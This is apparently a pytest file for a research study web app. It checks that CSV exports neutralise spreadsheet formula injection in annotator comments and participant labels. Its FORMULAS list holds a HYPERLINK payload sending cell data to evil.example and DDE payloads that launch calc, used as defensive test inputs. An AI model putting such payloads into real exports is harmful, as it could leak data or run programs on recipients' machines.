"""CSV exports (issue #15, item 9), attacked the way a spreadsheet is: an annotator's comment or
a participant label written as a formula must reach the researcher's spreadsheet as text, never
as a formula (``=HYPERLINK(…)`` sends data away when clicked; DDE payloads run programs). Every
export goes through one helper (``runtime.core.csv_safe``): a cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers stay numbers; what an
export quoted reads back as it was."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.models_study_b import StudyB
from runtime.core.csv_safe import TRIGGERS, safe_cell, unquote_cell
from study_protocols.study_b import StudyBPlan
from tests.security.requests_world import annotator_row, launched_study_b, make_world
from tests.webclient import log_in

pytestmark = pytest.mark.database  # each test runs on SQLite and on PostgreSQL (tests/pg.py)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows[1:] for c in row if c[:1] in TRIGGERS and not _number(c)]


def _number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", cell) is not None


def test_annotator_comments_reach_the_export_as_text(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    order = annotator_row(world.app, world.annotator).order
    assert len(order) >= len(FORMULAS)
    with TestClient(world.app) as client:
        page = client.get(f"/annotate/{world.annotator}/item/1").text
        csrf = re.search(r'"X-CSRF-Token": "([^"]+)"', page)
        assert csrf
        for n, formula in enumerate(FORMULAS, start=1):
            client.post(f"/annotate/{world.annotator}/item/{n}/played", json={},
                        headers={"X-CSRF-Token": csrf.group(1)})  # listen before rating
            r = client.post(f"/annotate/{world.annotator}/item/{n}/rating",
                            json={"fidelity": 3, "comment": formula},
                            headers={"X-CSRF-Token": csrf.group(1)})
            assert r.status_code == 200, r.text
        log_in(client, next_url="/studies/a")
        rows = _cells(client.get(f"/studies/a/{world.study_a}/comments.csv").text)
        comments = [row[rows[0].index("comment")] for row in rows[1:]]
        assert sorted(comments) == sorted("'" + f for f in FORMULAS)
        assert not _formula_cells(rows)
        for export in ("ratings.csv", "table9.csv"):
            assert not _formula_cells(_cells(
                client.get(f"/studies/a/{world.study_a}/{export}").text))


LABELS = ["=1+1", "@SUM(1)", "+1+1", "-1+1a", "=HYPERLINK(A1)"]


def test_stored_participant_labels_reach_plan_and_links_as_text(tmp_path: Path) -> None:
    """Labels are checked on import now (letters and digits first), but a database from
    before that, or one edited by hand, may hold any text: the exports quote it all the
    same."""
    world = make_world(tmp_path)
    study, _ = launched_study_b(world.app, LABELS)
    with TestClient(world.app) as client:
        log_in(client, next_url="/studies/b")
        plan = _cells(client.get(f"/studies/b/{study}/plan.csv").text)
        assert {row[0] for row in plan[1:]} == {"'" + v for v in LABELS}
        assert not _formula_cells(plan)
        links = _cells(client.get(f"/studies/b/{study}/links.csv").text)
        assert {row[0] for row in links[1:]} == {"'" + v for v in LABELS}
        assert not _formula_cells(links)
    # Read back, an exported plan has its labels as they were.
    exported = io.StringIO()
    with Session(world.app.state.engine) as db:
        stored = db.get(StudyB, study)
        assert stored is not None
        original = StudyBPlan.from_json(stored.plan)
    original.to_csv(exported)
    cells = [[unquote_cell(c) for c in row] for row in _cells(exported.getvalue())]
    assert {row[0] for row in cells[1:]} == set(LABELS)


def test_the_shared_helper_quotes_formulas_and_keeps_numbers() -> None:
    for cell in ("=1+1", "+A1", "-A1", "@A1", "\t=1", "\r=1", "=", "-"):
        assert safe_cell(cell) == "'" + cell
        assert unquote_cell(safe_cell(cell)) == cell
    for cell in ("-0.1234", "+3", "12", "1e-05", "-2.5E+3", "plain", "", "'quoted", "a=b"):
        assert safe_cell(cell) == cell
        assert unquote_cell(cell) == cell
    assert safe_cell(-1.5) == -1.5 and safe_cell(None) is None and safe_cell(3) == 3
